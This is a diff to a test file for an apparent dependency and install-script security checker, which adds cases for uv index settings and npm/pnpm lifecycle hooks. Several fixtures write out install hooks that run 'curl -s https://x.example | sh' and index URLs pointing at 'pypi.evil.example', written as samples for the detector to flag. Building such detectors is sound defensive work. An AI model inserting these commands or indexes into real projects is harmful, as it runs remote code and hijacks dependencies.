@@ -15,6 +15,28 @@ afterAll(() => cleanups.forEach((c) => c()));
 const WATCH = /^CPU0(2[5-9]|30)$/;
 const pkg = (extra: Record<string, unknown>) =>
   JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { a: '^1.0.0' }, ...extra }, null, 2) + '\n';
+/** pnpm 9+'s lockfile for a root that depends on the folder vendor/z (`file:vendor/z`), installed as a directory. */
+const PNPM_DIRECTORY_LOCK = [
+  "lockfileVersion: '9.0'",
+  '',
+  'importers:',
+  '',
+  '  .:',
+  '    dependencies:',
+  '      z:',
+  '        specifier: file:vendor/z',
+  '        version: file:vendor/z',
+  '',
+  'packages:',
+  '',
+  '  z@file:vendor/z:',
+  '    resolution: {directory: vendor/z, type: directory}',
+  '',
+  'snapshots:',
+  '',
+  '  z@file:vendor/z: {}',
+  '',
+].join('\n');
 const workflow = (install: string) =>
   [
     'name: ci',
@@ -152,6 +174,33 @@ const cases: Case[] = [
     want: ['CPU025@pyproject.toml:7', 'CPU026@uv.toml:2'],
   },
   {
+    // uv's `extra-index-url` is a list (`Vec<IndexUrl>`): its entries flatten to `extra-index-url.0`, ….
+    name: 'pyproject [tool.uv] gains an extra-index-url, uv.toml a second one → CPU025 each',
+    base: {
+      'pyproject.toml': '[project]\nname = "app"\nversion = "1"\n',
+      'uv.toml': 'extra-index-url = ["https://download.pytorch.org/whl/cpu"]\n',
+    },
+    head: {
+      'pyproject.toml':
+        '[project]\nname = "app"\nversion = "1"\n\n[tool.uv]\nextra-index-url = ["https://pypi.evil.example/simple"]\n',
+      'uv.toml': 'extra-index-url = ["https://download.pytorch.org/whl/cpu", "https://pypi.evil.example/simple"]\n',
+    },
+    want: ['CPU025@pyproject.toml:6', 'CPU025@uv.toml:1'],
+  },
+  {
+    // `uv pip install` / `uv pip sync` read `[pip]` over the top-level settings (uv-settings PipOptions).
+    name: 'uv.toml [pip] gains an index-url → CPU025; [tool.uv.pip] drops require-hashes and allows sdists → CPU026',
+    base: {
+      'pyproject.toml': '[project]\nname = "app"\nversion = "1"\n\n[tool.uv.pip]\nrequire-hashes = true\n',
+      'uv.toml': '[pip]\nsystem = true\n',
+    },
+    head: {
+      'pyproject.toml': '[project]\nname = "app"\nversion = "1"\n\n[tool.uv.pip]\nno-binary = [":all:"]\n',
+      'uv.toml': '[pip]\nsystem = true\nindex-url = "https://pypi.evil.example/simple"\n',
+    },
+    want: ['CPU025@uv.toml:3', 'CPU026@pyproject.toml:6'],
+  },
+  {
     name: 'the root package.json gains a postinstall, a workspace a prepare → one CPU027 each',
     base: {
       'package.json': pkg({ workspaces: ['packages/*'], scripts: { test: 'vitest' } }),
@@ -226,30 +275,65 @@ const cases: Case[] = [
     want: ['CPU027@vendor/z/package.json:8'],
   },
   {
+    // arborist's rebuild queues a link's prepare with its install scripts.
+    name: 'the same npm-linked folder gains a prepare → CPU027',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
+      'package-lock.json':
+        JSON.stringify({
+          name: 'app',
+          version: '1.0.0',
+          lockfileVersion: 3,
+          packages: {
+            '': { name: 'app', version: '1.0.0', dependencies: { z: 'file:vendor/z' } },
+            'node_modules/z': { resolved: 'vendor/z', link: true },
+            'vendor/z': { name: 'z', version: '1.0.0' },
+          },
+        }) + '\n',
+      'vendor/z/package.json': pkg({}),
+    },
+    head: { 'vendor/z/package.json': pkg({ scripts: { prepare: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@vendor/z/package.json:8'],
+  },
+  {
     name: 'a folder pnpm-lock.yaml installs as a directory dependency changes its postinstall → CPU027 (pnpm builds it)',
     base: {
       'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
-      'pnpm-lock.yaml': [
-        "lockfileVersion: '9.0'",
-        '',
-        'importers:',
-        '',
-        '  .:',
-        '    dependencies:',
-        '      z:',
-        '        specifier: file:vendor/z',
-        '        version: file:vendor/z',
-        '',
-        'packages:',
-        '',
-        '  z@file:vendor/z:',
-        '    resolution: {directory: vendor/z, type: directory}',
-        '',
-        'snapshots:',
-        '',
-        '  z@file:vendor/z: {}',
-        '',
-      ].join('\n'),
+      'pnpm-lock.yaml': PNPM_DIRECTORY_LOCK,
+      'vendor/z/package.json': pkg({}),
+    },
+    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@vendor/z/package.json:8'],
+  },
+  {
+    // pnpm's runPostinstallHooks runs preinstall, install and postinstall for a dependency: never its prepare.
+    name: 'the same folder gains a prepare → nothing (pnpm does not run it for a dependency)',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'file:vendor/z' } }),
+      'pnpm-lock.yaml': PNPM_DIRECTORY_LOCK,
+      'vendor/z/package.json': pkg({}),
+    },
+    head: { 'vendor/z/package.json': pkg({ scripts: { prepare: 'curl -s https://x.example | sh' } }) },
+    want: [],
+  },
+  {
+    // buildModules asks allowBuild of a directory dependency as of any other: pnpm 10 skips its build by default.
+    name: 'the same under pnpm 10, whose settings do not name it → CPU027 as a note (pnpm installs it unbuilt)',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'file:vendor/z' }, packageManager: 'pnpm@10.4.1' }),
+      'pnpm-lock.yaml': PNPM_DIRECTORY_LOCK,
+      'vendor/z/package.json': pkg({}),
+    },
+    head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@vendor/z/package.json:8'],
+    level: 'note',
+  },
+  {
+    name: 'the same under pnpm 10 with onlyBuiltDependencies naming it → CPU027 (pnpm builds it)',
+    base: {
+      'package.json': pkg({ dependencies: { z: 'file:vendor/z' }, packageManager: 'pnpm@10.4.1' }),
+      'pnpm-workspace.yaml': 'onlyBuiltDependencies:\n  - z\n',
+      'pnpm-lock.yaml': PNPM_DIRECTORY_LOCK,
       'vendor/z/package.json': pkg({}),
     },
     head: { 'vendor/z/package.json': pkg({ scripts: { postinstall: 'curl -s https://x.example | sh' } }) },
